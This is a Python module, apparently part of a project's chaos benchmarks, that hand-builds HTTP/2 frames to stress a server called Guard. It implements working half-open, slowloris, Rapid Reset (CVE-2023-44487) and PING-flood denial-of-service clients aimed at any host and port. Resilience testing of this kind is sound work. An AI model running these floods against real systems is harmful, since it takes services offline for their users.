"""Clients that mean harm: `python -m benchmarks.chaos.attacks KIND HOST:PORT NUMBER`, until standard input ends.

They speak HTTP/2 (RFC 9113) frame by frame, for no library would do this. `half-open` holds so many connections and
says nothing, or nothing after the preface; `loris` begins so many requests and sends a byte of each a second; `reset`
begins and resets so many requests a second (CVE-2023-44487); `ping` asks so many times a second whether Guard is there.
"""

from __future__ import annotations

import asyncio
import contextlib
import struct
import sys
from collections.abc import Awaitable, Callable

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING = 0, 1, 3, 4, 6
END_STREAM, END_HEADERS = 1, 4
CANCEL = struct.pack(">I", 8)
_TICK_S = 0.01
_PER_CONNECTION = 50
_UNARY = "/inference.GRPCInferenceService/ModelInfer"
_FIELDS = (
    (":method", "POST"),
    (":scheme", "http"),
    (":authority", "guard"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
)


def frame(kind: int, payload: bytes = b"", *, flags: int = 0, stream: int = 0) -> bytes:
    """An HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def request_headers(stream: int, *more: tuple[str, str], method: str = _UNARY) -> bytes:
    """The head of a call, of ModelInfer by default, its fields as plain literals (RFC 7541)."""
    fields = [(name.encode(), value.encode()) for name, value in ((":path", method), *_FIELDS, *more)]
    block = b"".join(b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value for name, value in fields)
    return frame(HEADERS, block, flags=END_HEADERS, stream=stream)


class Line:
    """A connection whose answers nobody reads, but for its end."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.writer = writer
        self.stream = -1
        self._sink = asyncio.create_task(self._read(reader))

    @property
    def over(self) -> bool:
        """Whether Guard has ended it."""
        return self._sink.done()

    def next_stream(self) -> int:
        """The number of the next request on it."""
        self.stream += 2
        return self.stream

    async def _read(self, reader: asyncio.StreamReader) -> None:
        with contextlib.suppress(OSError):
            while await reader.read(65536):
                pass
        self.writer.close()


async def opened(address: str, first: bytes) -> Line:
    """A new connection, and the first that is said on it."""
    host, _, port = address.rpartition(":")
    line = Line(*await asyncio.open_connection(host, int(port)))
    line.writer.write(first)
    return line


async def half_open(address: str, number: int) -> None:
    """Hold connections that never become any; those that Guard ends are opened again."""
    lines: list[Line] = []
    while True:
        lines = [line for line in lines if not line.over]
        while len(lines) < number:
            lines.append(await opened(address, PREFACE if len(lines) % 2 else b""))
        await asyncio.sleep(1.0)


async def loris(address: str, number: int) -> None:
    """Begin requests, and send each a byte a second."""
    lines: list[Line] = []
    while True:
        lines = [line for line in lines if not line.over]
        while len(lines) < -(-number // _PER_CONNECTION):
            line = await opened(address, PREFACE + frame(SETTINGS))
            for _ in range(_PER_CONNECTION):
                stream = line.next_stream()
                line.writer.write(request_headers(stream) + frame(DATA, b"\0" + struct.pack(">I", 3000), stream=stream))
            lines.append(line)
        for line in lines:
            line.writer.write(b"".join(frame(DATA, b"\0", stream=s) for s in range(1, line.stream + 1, 2)))
        await asyncio.sleep(1.0)


async def resets(address: str, number: int) -> None:
    """Begin requests and take them back: half at once, half as soon as Guard has begun with them."""
    begun: dict[Line, list[int]] = {}

    def burst(line: Line) -> bytes:
        taken_back = begun.get(line, [])
        streams = [line.next_stream() for _ in range(round(number * _TICK_S))]
        begun.clear()
        begun[line] = streams[1::2]
        heads = b"".join(map(request_headers, streams))
        return heads + b"".join(frame(RST_STREAM, CANCEL, stream=s) for s in (*taken_back, *streams[::2]))

    await _flood(address, burst)


async def pings(address: str, number: int) -> None:
    """Ask whether Guard is there."""
    await _flood(address, lambda _: frame(PING, bytes(8)) * round(number * _TICK_S))


async def _flood(address: str, burst: Callable[[Line], bytes]) -> None:
    line = await opened(address, PREFACE + frame(SETTINGS))
    while True:
        if line.over:
            line = await opened(address, PREFACE + frame(SETTINGS))
        with contextlib.suppress(OSError):
            line.writer.write(burst(line))
            await line.writer.drain()
        await asyncio.sleep(_TICK_S)


KINDS: dict[str, Callable[[str, int], Awaitable[None]]] = {
    "half-open": half_open,
    "loris": loris,
    "reset": resets,
    "ping": pings,
}


async def _main(kind: str, address: str, number: str) -> None:
    attack = asyncio.ensure_future(KINDS[kind](address, int(number)))
    until = asyncio.ensure_future(asyncio.to_thread(sys.stdin.read))
    await asyncio.wait({attack, until}, return_when=asyncio.FIRST_COMPLETED)
    if attack.done():
        attack.result()


if __name__ == "__main__":
    asyncio.run(_main(*sys.argv[1:]))
